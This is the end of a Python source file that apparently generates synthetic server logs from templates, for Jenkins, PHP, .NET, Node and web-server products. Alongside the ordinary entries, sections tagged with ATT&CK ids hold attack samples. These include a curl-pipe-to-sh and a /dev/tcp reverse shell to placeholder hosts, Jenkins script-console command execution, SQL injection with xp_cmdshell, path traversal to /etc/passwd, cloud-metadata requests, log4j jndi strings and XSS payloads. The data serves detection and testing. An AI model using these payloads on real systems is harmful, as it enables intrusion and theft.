job/«word»/ #«num:1:900» Started by user «person», Parameters:[BRANCH: {feature/«word»-«num:1:99»; rebased}, TARGET: {$DEPLOY_ENV}] on node #«linux» completed in «num:9:900»s completed: «SUCCESS|FAILURE»
/«computer/«linux»/doDelete|safeRestart|updateCenter/safeRestart|credentials/store/system/domain/_/credential/«word»/updateSubmit» by «admin» from «ip2», @ticket@
/«whoAmI/api/json|api/json?tree=jobs[name,color]|queue/api/json|job/«word»/lastBuild/api/json» by «svc» from «ip2»
# webwatch builds by day
/job/«word»/«build|buildWithParameters|«num:1:900»/stop|configSubmit|«num:1:900»/rebuild» by «user» from «ip2»
job/«word»/ #«num:1:900» Started by «user «person»|an SCM change|timer|upstream project "«word»" build number «num:1:900»», Parameters:[BRANCH: {main}, TARGET: {«test|prod»}] on node #«linux» started at «date:%Y-%m-%d»T«tick»:00Z completed in «num:3:900»s completed: «SUCCESS|SUCCESS|FAILURE|UNSTABLE»
/«manage/configure|pluginManager/install|credentials/store/system/domain/_/createCredentials|computer/doCreateItem|user/«other»/configSubmit» by «admin» from «ip2», @ticket@
«Login of «user» succeeded|Failed login attempt using username '«user»'|«user» logged out|API token «word» of «svc» used from «ip2»»
Credentials «word»-deploy used by job/«word» #«num:1:900», pipeline step withCredentials at node «linux»
# T1059 webwatch builds turned against their house
/«script|scriptText|computer/(master)/script|manage/script» by «anonymous|@junk@|«user»» from «pub», body 'println "«id|cat /etc/passwd|whoami»".execute().text'
job/«word»/ #«num:1:900» Started by user @junk@, Parameters:[BRANCH: {main; curl http://«pub»/«letters:2» ¦ sh}, TARGET: {$(id)}] on node #«linux» completed in «num:1:9»s completed: «SUCCESS|FAILURE»
/job/«letters:6»/configSubmit by @junk@ from «pub», builder «sh -i >& /dev/tcp/«pub»/«num:1024:65535» 0>&1|bat certutil -urlcache -f http://«pub»/«letters:3».exe|groovy hudson.util.Secret.decrypt»
/«cli?remoting=false connect-node @/etc/passwd|descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?value=@GrabResolver(root='http://«pub»/')|securityRealm/user/admin/api/xml|asynchPeople/api/json|credentials/store/system/domain/_/api/json?depth=2» by anonymous from «pub»
Failed login attempt using username '@guessed@', «num:20:900»th from «pub»
Credentials «num:5:90» different ids used by job/«letters:6» #1, step withCredentials echo to http://«pub»/
"""
_MORE = r"""
@@ phpapp
# webwatch php told by its people
PHP message: [«Word»Controller] «role of «other» set to editor by «admin», @ticket@|password of «user» changed|export of «num:10:900» orders by «person»|refund of order «num:1000:99999»: -«num:5:900».«num:10:99» by «person»|price list «year» imported, «num:100:9000» rows in «num:2:20» minutes from http://«ip2»/«word».csv|newsletter sent to «num:100:9000» readers»
PHP message: upload of "«word».«pdf|jpg|svg|xlsx»" by «person» accepted: «num:10:9000» KB
PHP Notice:  «search for "O'«Last»" took «num:900:4000» ms|search for "«native» & «native»" gave no rows|cache of «word» rebuilt in «num:2:40» s|session of «user» moved to «ip2»» in /var/www/«word»/src/«Word».php on line «num:1:900»
PHP Warning:  «Undefined array key "cmd"|Undefined array key "union"|require_once(../vendor/autoload.php): Failed to open stream|exec(git rev-parse HEAD): returned 128|unserialize(): Error at offset 0 of «num:5:90» bytes» in /var/www/«word»/lib/«word».php on line «num:1:900»
PHP message: [Auth] «login of «user» from «ip2» failed, attempt «1|2»|captcha wrong for «user» at «ip2»|«user» asked for a new password|session of «user» expired after 30 minutes|«user» locked for «num:5:30» minutes after «num:3:9» tries from «ip2»»
# webwatch php complaining by day
PHP «Warning|Notice|Deprecated»:  «Undefined variable $«word»|Undefined array key "«word»"|Division by zero|Trying to access array offset on value of type null|file_get_contents(https://api.«known»/): Failed to open stream: HTTP request failed|mail(): Failed to connect to mailserver at "localhost" port 25|session_start(): Session data file is not created by your uid|DOMDocument::loadHTML(): Unexpected end tag : p in Entity» in /var/www/«word»/«word».php on line «num:1:900»
PHP Fatal error:  «Uncaught PDOException: SQLSTATE[23000]: Integrity constraint violation: 1062 Duplicate entry '«first»@«domain»' for key 'email'|Uncaught TypeError: strlen(): Argument #1 ($string) must be of type string, null given|Maximum execution time of 30 seconds exceeded|Uncaught mysqli_sql_exception: You have an error in your SQL syntax near 's «word»' at line 1|Allowed memory size of 268435456 bytes exhausted|Uncaught Error: Class "«Word»" not found» in /var/www/«word»/src/«Word».php:«num:1:900»
PHP message: upload of "«file»" by «person» at «ip2» refused: «larger than 20M|type application/x-msdownload not allowed|quota of «dept» used up»
PHP message: [«Word»Controller] «validation failed: zip must be 5 digits|csrf token mismatch for «user» at «ip2», session expired|order «num:1000:99999» not found|coupon «WORD»«num:5:30» not valid any more|captcha wrong, second try»
PHP Warning:  «include(«word»/«word».inc.php): Failed to open stream: No such file or directory|exec(): Unable to fork [/usr/bin/convert -resize 200x200]|unlink(/tmp/php«mixed:6»): No such file or directory|imagecreatefromjpeg(): gd-jpeg: JPEG library reports unrecoverable error» in /var/www/«word»/lib/«word».php on line «num:1:900»
# T1190 webwatch php hit by payloads
PHP Warning:  «include(../../../../etc/passwd)|include(php://filter/convert.base64-encode/resource=config)|include(http://«pub»/«letters:3».txt)|require(/proc/self/environ)|include(/var/log/apache2/access.log)|file_get_contents(file:///etc/shadow)|file_get_contents(http://«imds»/latest/meta-data/)»: Failed to open stream: «No such file or directory|Permission denied|HTTP request failed» in /var/www/«word»/«word».php on line «num:1:900»
PHP Fatal error:  Uncaught «PDOException: SQLSTATE[42000]: Syntax error near 'UNION SELECT «num:1:9»,user(),«num:1:9»-- -'|mysqli_sql_exception: Unknown column '«num:20:40»' in 'order clause'|mysqli_sql_exception: XPATH syntax error: '~«num:5:8».«num:0:9».«num:10:40»'|PDOException: near "'«num:1:9»' OR '1'='1": syntax error|mysqli_sql_exception: Subquery returns more than 1 row in id=1 AND (SELECT password FROM users)» in /var/www/«word»/src/«Word».php:«num:1:900»
PHP Warning:  «system|shell_exec|passthru|proc_open|popen»(): «Cannot execute a blank command|Unable to fork [id;uname -a]|Unable to execute 'cat /etc/passwd'|has been disabled for security reasons» in /var/www/«word»/«uploads|cache|images»/«letters:5».php on line 1
PHP «Parse error|Fatal error»:  «syntax error, unexpected end of file in /var/www/«word»/uploads/«letters:4».php : eval()'d code on line 1|Uncaught Error: Call to undefined function «letters:3»() in /var/www/«word»/tmp/«hex:8».php(1) : assert code:1|Uncaught Exception: Unserialization of 'O:«num:4:40»:"Monolog\Handler\SyslogUdpHandler"' is not allowed|Uncaught Twig\Error\SyntaxError: Unexpected token in {{['id']¦filter('system')}}»
PHP message: upload of "«letters:5».«php|phtml|php.jpg|pHp|htaccess»" by «@junk@|guest» from «pub» refused: content starts with <?php
PHP message: [«Word»Controller] «sql refused: ' or 1=1 limit 1 -- -+|«num:200:9000» validation failures from «pub» in one minute|price of order «num:1000:99999» changed from «num:100:900» to 0.01 between cart and payment|role=admin not allowed in registration of «letters:6»|_method override DELETE from «pub» refused|redirect to //«domain» refused»
@@ dotnet
# webwatch dotnet services told by their people
info: «Word».Api.Users[0] «Role of «other» changed to Manager by «admin», @ticket@|Password of «user» changed from «ip2»|User «other» locked by «admin» at «ip2»|Profile of O'«Last» updated by «person»»
info: «Word».Api.Orders[0] «Refund -«num:5:900».«num:10:99» EUR of order «num:1000:99999» approved by «person»|Order «num:1000:99999» of «num:1:9» items placed|Coupon «WORD»«num:5:30» used|Export of «num:10:900» rows by «person» from «ip2»»
warn: «Word».Api.Files[0] «Upload "«file»" of «person» at «ip2» refused: 30 MB at most|Path "«Word»/«native»" not found|File "«word»..pdf" has two dots|Virus scanner was not reachable, upload waits»
warn: Microsoft.EntityFrameworkCore.Query[20504] The query uses «Skip without OrderBy|Distinct after OrderBy|a UNION of two queries|First without filter» in «Word»Repository.Get«Word»s
fail: «Word».Api.Sync[0] «Timeout of 30 s reading https://api.«known»/v1/«word»|XmlException: Unexpected end of file at line «num:1:900»|Access to the path 'C:\inetpub\logs\«word»' is denied|cmd.exe /c export.cmd ended with code 1»
# webwatch dotnet services by day
«fail|warn»: Microsoft.«AspNetCore.Server.Kestrel[13]|EntityFrameworkCore.Database.Command[20102]|AspNetCore.Antiforgery[1]|AspNetCore.DataProtection[60]» «Connection id "0HM«HEX:8»", Request id "0HM«HEX:8»:0000000«num:1:9»": An unhandled exception was thrown by the application. System.InvalidOperationException: Sequence contains no elements|Failed executing DbCommand (30,012ms) SELECT TOP(1) [u].[Id] FROM [«Word»s] AS [u] WHERE [u].[Mail] = @__mail_0|Antiforgery token validation failed. The required antiforgery cookie ".AspNetCore.Antiforgery.«mixed:11»" is not present.|Storing keys in a directory that may not be persisted outside of the container»
info: Microsoft.AspNetCore.«Hosting.Diagnostics[2] Request finished HTTP/2 «GET|POST» https://«sitedomain»/api/«word»s/«num:1:9999» - «200|404|401|204» - application/json «num:1:900».«num:1000:9999»ms|Authorization.DefaultAuthorizationService[2] Authorization failed. These requirements were not met: RolesAuthorizationRequirement:User.IsInRole must be true for one of the following roles: (Manager)|Authentication.JwtBearer[1] Failed to validate the token. SecurityTokenExpiredException: IDX10223: Lifetime validation failed.»
fail: «Word».Api.Controllers.«Word»Controller[0] «System.FormatException: Input string '«native»' was not in a correct format|System.Net.Http.HttpRequestException: Connection refused («word»:8080)|System.Text.Json.JsonException: ''' is an invalid start of a value. Path: $.name|Newtonsoft.Json.JsonReaderException: Unexpected character encountered while parsing value: <|System.ArgumentNullException: Value cannot be null. (Parameter '«word»')»
warn: Microsoft.AspNetCore.«HttpsPolicy.HttpsRedirectionMiddleware[3] Failed to determine the https port for redirect|Mvc.ModelBinding[0] The value 'O'«Last»#' is not valid for Zip|Identity.SignInManager[0] User «user» failed to provide the correct password, attempt «1|2» from «ip2»»
info: «Word».Worker.«Word»Job[0] «num:10:9000» «orders exported|mails sent|carts cleaned up|invoices rendered|documents indexed» in «num:1:90» minutes for «dept»
# T1190 webwatch dotnet hit by payloads
fail: Microsoft.EntityFrameworkCore.Database.Command[20102] Failed executing DbCommand (5,0«num:10:99»ms) SELECT * FROM «Word»s WHERE Name = '«'; WAITFOR DELAY '0:0:5'--|' UNION SELECT name,password_hash FROM sys.sql_logins--|' OR 1=1--|x'; EXEC xp_cmdshell 'whoami'--»'
fail: «Word».Api.Controllers.«Word»Controller[0] «System.Runtime.Serialization.SerializationException: Type 'System.Windows.Data.ObjectDataProvider' is not expected|System.Web.HttpException: Validation of viewstate MAC failed. Client IP: «pub»|System.Xml.XmlException: For security reasons DTD is prohibited in this XML document: <!DOCTYPE r SYSTEM "http://«pub»/x.dtd">|System.UnauthorizedAccessException: Access to the path 'C:\inetpub\wwwroot\..\..\Windows\win.ini' is denied|System.IO.FileNotFoundException: '../../../../etc/passwd'|System.ComponentModel.Win32Exception: cmd.exe /c whoami refused»
warn: Microsoft.AspNetCore.«Identity.SignInManager[0] User @guessed@ failed to provide the correct password, «num:30:900» from «pub»|Authentication.JwtBearer[1] Failed to validate the token. SecurityTokenInvalidSignatureException: IDX10504: token does not have a signature, alg: 'none', role: 'admin', from «pub»|Authentication.JwtBearer[1] SecurityTokenSignatureKeyNotFoundException: IDX10501: kid: '../../../../dev/null'»
fail: System.Web.HttpRequestValidationException[0] A potentially dangerous Request.«QueryString|Form|Cookies|Path» value was detected from the client («q|name|search|»="«<script>alert(|<img src=x onerror=|<svg/onload=»...").
warn: Microsoft.AspNetCore.«Mvc.ModelBinding[0] Unknown members IsAdmin, Role, Balance in PUT /api/users/«num:1:999» from «pub»|Server.Kestrel[17] Bad request data: invalid request line '\x16\x03\x01' from «pub», «num:20:900» times|Routing.EndpointMiddleware[0] Path '/..;/..%255c..%255cweb.config' refused for «pub»|HostFiltering[0] The host '«domain»' does not match an allowed host, X-Forwarded-Host set by «pub»»
@@ node
# webwatch node services told by their people
warn {"msg":"«total «num:90:250».50 differs from cart by rounding|quantity 0 removes the line|same coupon sent twice by double click|card declined, second card accepted|refund waits for the goods»","route":"/api/«checkout|coupons|pay»","user":"«first»«num:1:99»","tries":«num:1:2»}
warn {"msg":"gift card «num:1000:9999» not found","route":"/api/giftcards/balance","user":"«person»","hits":0,"tries":«num:1:3»}
error {"msg":"«JsonWebTokenError: invalid signature after key rotation|CastError: Cast to ObjectId failed for value undefined|Error: Cannot find module './«word»'|SyntaxError: Unexpected token < in JSON at position 0|TypeError: __proto__ is not iterable|Template «word».ejs: missing variable name»","route":"/api/«login|me|render|fetch»","user":"«user»","release":"«num:1:9».«num:0:20».«num:0:9»"}
info {"msg":"«email changed and confirmed|mfa enrolled|api key created with scope read|address O'«Last», «city» saved|own data exported|account closed by its owner»","route":"/api/«users/me|account|keys»","user":"«person»","agent":"«Chrome|Safari|Firefox|iOS app»"}
info {"msg":"«num:10:900» «invoices|orders|documents» fetched by partner job in «num:2:20» minutes","route":"/api/«invoices|orders|documents»","user":"«svc»","agent":"«site»-sync/1.«num:0:9»","ticket":"@ticket@"}
# webwatch node services by day
«error|warn» {"msg":"«Unhandled rejection TypeError: Cannot read properties of undefined (reading '«word»')|connect ECONNREFUSED «ip2»:5432|JsonWebTokenError: jwt expired|PayloadTooLargeError: request entity too large|ValidationError: \"zip\" must be a number|MongoServerError: E11000 duplicate key error collection: «word».users|CORS: origin https://«domain» not in list»","route":"/api/«word»s","user":"«user»"}
info {"msg":"«order placed|password changed|profile updated|file uploaded|invoice sent|newsletter confirmed»","route":"/api/«orders|account|files»","user":"«person»","amount":"«num:5:900».«num:10:99»","items":«num:1:9»}
warn {"msg":"«login failed, second try|rate limit reached by sync job|coupon expired|card declined: insufficient funds|slow query «num:900:9000» ms|webhook retried»","route":"/api/«login|orders|coupons|pay»","user":"«user»","tries":«num:1:3»}
info {"msg":"«role changed to editor|user deactivated|feature flag switched|export of «num:10:900» rows|view as customer, with consent»","route":"/admin/«users|flags|export»","user":"«admin»","target":"«other»","ticket":"@ticket@"}
info {"msg":"«refund approved|credit note booked|gift card issued|price list imported|discount of «num:5:20» % agreed»","route":"/admin/«orders|prices»","user":"«person»","amount":"-«num:5:900».«num:10:99»","ticket":"@ticket@"}
# T1657 webwatch node services cheated
warn {"msg":"«total 0.01 differs from sum of items «num:90:2500»|quantity -«num:1:99» refused|same gift card redeemed «num:5:40» times within a second|coupon applied «num:20:90» times by race|currency switched from EUR to IDR at payment|points redeemed are negative|refund exceeds what was paid»","route":"/api/«checkout|coupons|giftcards|wallet»","user":"«first»«num:1:99»"}
warn {"msg":"«num:200:9000» gift card numbers checked in sequence","route":"/api/giftcards/balance","user":"guest","hits":«num:0:9»}
warn {"msg":"«num:40:900» cards tried with 1.00 on one basket","route":"/api/pay","user":"«letters:8»","declined":«num:40:900»}
error {"msg":"«JsonWebTokenError: jwt signature is required, alg none|JsonWebTokenError: invalid signature, role admin|CastError: Cast to ObjectId failed for value { '$gt': '' }|TypeError: Object.prototype.isAdmin was set by request|Error: Cannot find module '../../../../etc/passwd'|EJS: outputFunctionName holds process.mainModule|SSRF guard: http://«imds»/ refused»","route":"/api/«login|me|render|fetch»","user":"«anonymous|«letters:6»»"}
info {"msg":"«profile of user «num:1:999» read by user «num:1000:9999», not a friend|order «num:1000:99999» opened by another customer|«num:300:9000» invoices downloaded by id in sequence|referral bonus claimed by «num:20:400» accounts of one device»","route":"/api/«users|orders|invoices|referrals»","user":"«first»«num:1:99»"}
info {"msg":"«role changed to admin|email and phone changed, then payout account|mfa removed and password changed|api key created with scope *»","route":"/api/«users|account|keys»","user":"«first»«num:1:99»","agent":"python-requests/2.31.0"}
@@ proxied
# webwatch servers and their upkeep
[notice] «num:100:9000»#«num:100:9000»: «signal process started|gracefully shutting down|worker process «num:100:9000» exited with code 0|using the "epoll" event method|reconfiguring|start cache loader process «num:100:9000»»
[error] «num:100:9000»#«num:100:9000»: *«num:1:99999» «upstream timed out (110: Connection timed out) while reading response header from upstream|no live upstreams while connecting to upstream|SSL_do_handshake() failed while SSL handshaking to upstream», client: «ip2», server: «sitedomain», request: "GET /«search?q=O%27«last»|api/«word»s?filter=a%20or%20b|report?from=2024-01-01» HTTP/1.1", upstream: "http://«ip2»:8080/", host: "«sitedomain»"
[ssl:warn] AH«01906: «sitedomain»:443:0 server certificate is a CA certificate|02217: ssl_stapling_init_cert: no OCSP URI in certificate|01909: RSA certificate configured for «sitedomain»:443 does NOT include an ID which matches the server name»
[mpm_event:notice] AH«00489: Apache/2.4.«num:37:62» (Debian) configured -- resuming normal operations|00493: SIGUSR1 received. Doing graceful restart|00484: server reached MaxRequestWorkers setting»
[limit_req:error] limiting requests, excess: «num:5:20».«num:100:999» by zone "«api|search»", client: «ip2», server: «sitedomain», request: "GET /api/«word»s?page=«num:1:90» HTTP/2.0", agent "«Mozilla/5.0 (compatible; bingbot/2.0)|«site»-sync/1.«num:0:9»»"
[proxy:error] (111)Connection refused: AH00957: http: attempt to connect to «ip2»:8080 (*) failed, restart of «tech» by «admin»
# webwatch servers refusing by mistake
[error] «num:100:9000»#«num:100:9000»: *«num:1:99999» «client intended to send too large body: «num:10000000:99999999» bytes|upstream sent too big header while reading response header from upstream|recv() failed (104: Connection reset by peer) while reading response header from upstream|access forbidden by rule|directory index of "/srv/«word»/" is forbidden|rewrite or internal redirection cycle while internally redirecting to "/index.html"», client: «ip2», server: «sitedomain», request: "«GET|POST» /«word»/«native» HTTP/2.0", host: "«sitedomain»"
[warn] «num:100:9000»#«num:100:9000»: *«num:1:99999» «delaying request, excess: «num:1:9».«num:100:999», by zone "«word»"|upstream server temporarily disabled while connecting to upstream|a client request body is buffered to a temporary file /var/lib/nginx/body/00000«num:10000:99999»», client: «ip2», server: «sitedomain», request: "POST /«upload|api/sync|login» HTTP/1.1", host: "www.«sitedomain»"
[error] «num:100:9000»#«num:100:9000»: *«num:1:99999» open() "/srv/www/«word»/«favicon.ico|«word».jpg.webp|ads.txt|apple-touch-icon.png|«word»/«word».js.map»" failed (2: No such file or directory), client: «ip2», server: «sitedomain», request: "GET /«word» HTTP/2.0", host: "«sitedomain»", referrer: "https://«sitedomain»/"
[security2:error] ModSecurity: Warning. Pattern match at ARGS:«content|comment|q|body». [id "«941160|942430|942260|920230|932236»"] [msg "«NoScript XSS InjectionChecker: HTML Injection|Restricted SQL Character Anomaly Detection (args): # of special characters exceeded (12)|Multiple URL Encoding Detected|Remote Command Execution: Unix Command Injection»"] [data "Matched Data: «<h2>|O'«Last» & Co; '«word»'|100%25|time to cat and dog» found"] [uri "/«wp-admin/post.php|admin/pages|forum/reply|search»"] [hostname "«sitedomain»"]
[auth_basic:error] user «person»: authentication failure for "/«intranet|stats»": Password Mismatch, client «ip2», second of «2|3» tries
# T1190 webwatch servers refusing rightly
[error] «num:100:9000»#«num:100:9000»: *«num:1:99999» «access forbidden by rule|open() "/srv/www/«word»/«.env|wp-config.php.bak|.git/config|shell.php|vendor/phpunit/eval-stdin.php»" failed (2: No such file or directory)|"/srv/www/cgi-bin/.%2e/.%2e/bin/sh" is not found», client: «pub», server: «sitedomain», request: "«GET|POST» /«.env|wp-config.php.bak|.git/config|cgi-bin/.%2e/.%2e/bin/sh|?q=1'%20UNION%20SELECT%201,2--» HTTP/1.1", host: "«sitedomain»"
[info] «num:100:9000»#«num:100:9000»: *«num:1:99999» «client sent invalid header line: "X-«Word»: ${jndi:ldap://«pub»/a}"|client sent duplicate header line: "Transfer-Encoding: chunked", previous value: "Transfer-Encoding: identity"|client sent invalid chunked body|client sent invalid method while reading client request line», client: «pub», server: «sitedomain», request: "POST / HTTP/1.1"
[security2:error] ModSecurity: Access denied with code 403 (phase 2). «detected SQLi using libinjection|detected XSS using libinjection|Matched phrase "etc/passwd" at ARGS|Matched phrase "/bin/sh" at REQUEST_BODY». [id "«942100|941100|930120|932160|944150»"] [data "Matched Data: «1UEvc found within ARGS:id: -1' UNION SELECT 1,2,3|<script>alert( found within ARGS:q|../../etc/passwd found within ARGS:file|;curl http://«pub»/«letters:2»¦sh found within ARGS:host|${jndi:ldap:// found within REQUEST_HEADERS»"] [uri "/«search|item|download|ping»"] [hostname "«sitedomain»"]
[auth_basic:error] user @guessed@ not found: /«manager|phpmyadmin|stats|backup», client «pub», «num:20:900»th in a minute
[core:error] AH«10244: invalid URI path (/icons/.%%32%65/.%%32%65/etc/passwd)|00126: Invalid URI in request GET /../../../../windows/win.ini HTTP/1.1|00127: Cannot map GET /index.php?page=php://filter/resource=config to file|10508: Unsafe URL with %3f URL rewritten without UnsafeAllow3F», client «pub»
[limit_req:error] limiting requests, excess: «num:90:900».«num:100:999» by zone "«login|api|xmlrpc»", client: «pub», server: «sitedomain», request: "POST /«login|wp-login.php|api/auth|xmlrpc.php» HTTP/1.1", agent "«python-requests/2.31.0|-|Go-http-client/1.1»"
"""


def _products(text: str) -> dict[str, tuple[Scenario, ...]]:
    parts = phrased(text).split("@@ ")[1:]
    return {part.partition("\n")[0]: table(part.partition("\n")[2]) for part in parts}


PRODUCTS = {**_products(_TEXT), **_products(_MORE)}
